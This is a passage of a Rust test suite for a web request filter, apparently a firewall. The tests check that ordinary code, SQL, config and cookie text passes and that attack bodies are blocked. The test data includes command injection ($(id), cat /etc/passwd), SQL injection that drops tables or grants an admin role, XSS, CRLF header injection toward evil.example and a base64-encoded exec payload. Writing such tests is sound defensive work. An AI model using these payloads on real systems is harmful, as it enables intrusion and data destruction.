        filter.prefilter.scan_each(text, &mut each);
        assert_eq!(walked, each, "{text:?}");
    }
}

/// Ordinary text that looks like code, configuration or a password passes,
/// while the attack that each rule was written for is still blocked.
#[test]
fn code_like_text_passes_beside_its_attacks() {
    let ordinary = [
        ("application/json", r#"{"q":"java runtime environment download"}"#),
        ("application/json", r#"{"q":"system requirements of the runtime"}"#),
        (
            "application/json",
            r#"{"file":"config.yaml","content":"server:\n  port: 8080\n  host: 0.0.0.0\n  cookie: none"}"#,
        ),
        (
            "application/json",
            r#"{"code":"const menu = document.getElementById(\"menu\"); menu.hidden = true"}"#,
        ),
        (
            "application/x-www-form-urlencoded",
            "new=v8%24%28P%29%21r%60~Lq2&confirm=v8%24%28P%29%21r%60~Lq2",
        ),
        (
            "application/json",
            r#"{"html":"<details><summary>Shipping</summary><p>Ships in 2 days.</p></details><dialog>Saved</dialog>"}"#,
        ),
        (
            "application/x-www-form-urlencoded",
            "message=%60%60%60sql%0ASELECT+id%2C+name+FROM+products+WHERE+price+%3E+10+ORDER+BY+name%3B%0A%60%60%60",
        ),
        (
            "application/json",
            r#"{"file":"q.sql","content":"UPDATE users SET last_login = NOW() WHERE id = 42;"}"#,
        ),
        (
            "application/json",
            r#"{"code":"CREATE TABLE orders (id SERIAL PRIMARY KEY, total NUMERIC(10,2));"}"#,
        ),
        (
            "application/json",
            r#"{"code":"const items = await fetch('/api/items').then(r => r.json());"}"#,
        ),
        (
            "application/x-www-form-urlencoded",
            "message=names+%3D+users.stream%28%29.map%28User%3A%3AgetName%29.collect%28Collectors.toList%28%29%29%3B",
        ),
        (
            "application/json",
            r#"{"body_markdown":"```sql\nSELECT name, email FROM customers WHERE country = 'DE' ORDER BY name;\n```"}"#,
        ),
        (
            "application/json",
            r#"{"code":"$users = array_filter($users, fn($u) => $u['active']);"}"#,
        ),
        (
            "application/json",
            r#"{"content":"Explain what eval() does in JavaScript."}"#,
        ),
    ];
    for (content_type, body) in ordinary {
        assert!(
            !blocked(&with_body("POST", content_type, body), body),
            "{body}"
        );
    }
    let attacks = [
        // Base64 of `Runtime.getRuntime().exec("id")`.
        (
            "application/json",
            r#"{"state":"UnVudGltZS5nZXRSdW50aW1lKCkuZXhlYygiaWQiKQ=="}"#,
        ),
        (
            "application/x-www-form-urlencoded",
            "email=a%40b.example%0D%0ABcc%3A+victim%40example.com&msg=hi",
        ),
        (
            "application/x-www-form-urlencoded",
            "next=%2F%0D%0ASet-Cookie%3A+a%3D1",
        ),
        (
            "application/x-www-form-urlencoded",
            "host=x%0AHost%3A+evil.example",
        ),
        ("application/json", r#"{"name":"$(id)"}"#),
        (
            "application/json",
            r#"{"html":"<details open ontoggle=alert(1)>"}"#,
        ),
        ("application/x-www-form-urlencoded", "sort=1+order+by+5--"),
        (
            "application/x-www-form-urlencoded",
            "sort=name%27+order+by+3%3B",
        ),
        (
            "application/x-www-form-urlencoded",
            "id=1%27%3B+update+users+set+role%3D%27admin%27--",
        ),
        (
            "application/x-www-form-urlencoded",
            "id=1%3B+create+table+t+%28a+int%29--",
        ),
        (
            "application/x-www-form-urlencoded",
            "id=1%3B+drop+table+users--",
        ),
        (
            "application/x-www-form-urlencoded",
            "f=cat%24u+%2Fetc%2Fpasswd",
        ),
        ("application/x-www-form-urlencoded", "q=alert%28%29"),
        ("application/x-www-form-urlencoded", "q=substr%28%29"),
        ("application/json", r#"{"q":"x' || user::text || '"}"#),
        ("application/json", r#"{"q":"array_map('system', ['id'])"}"#),
        ("application/json", r#"{"q":"usort($a, 'system')"}"#),
    ];
    for (content_type, body) in attacks {
        assert!(
            blocked(&with_body("POST", content_type, body), body),
            "{body}"
        );
    }
    // A Tealium cookie separates its fields with `$_`.
    let mut headers = request("/checkout/shipping");
    headers.push((
        "cookie".to_string(),
        b"utag_main=v_id:0b5000b1e9479ad1a8$_sn:3$_ss:0$_st:1718001800000$ses_id:1718000000000%3Bexp-session".to_vec(),
    ));
    assert!(!blocked(&headers, ""));
}

#[test]
fn browser_reports_pass() {
    let report = r#"{"csp-report":{"document-uri":"https://shop.example/cart","referrer":"","violated-directive":"script-src-elem","effective-directive":"script-src-elem","original-policy":"default-src 'self'; script-src 'self'; report-uri /csp-report","disposition":"enforce","blocked-uri":"https://cdn.example/x.js","status-code":200,"script-sample":""}}"#;
    let headers = with_body("POST", "application/csp-report", report);
    assert!(!blocked(&headers, report));
    let cookie = request("/account");
    let mut consent = cookie.clone();
    consent.push((
        "cookie".to_string(),
        b"CookieConsent={stamp:%27-1%27%2Cnecessary:true%2Cpreferences:true%2Cstatistics:true%2Cmarketing:false%2Cmethod:%27implied%27%2Cver:1%2Cutc:1715000000000%2Cregion:%27us-06%27}".to_vec(),
    ));
    assert!(!blocked(&consent, ""));
}
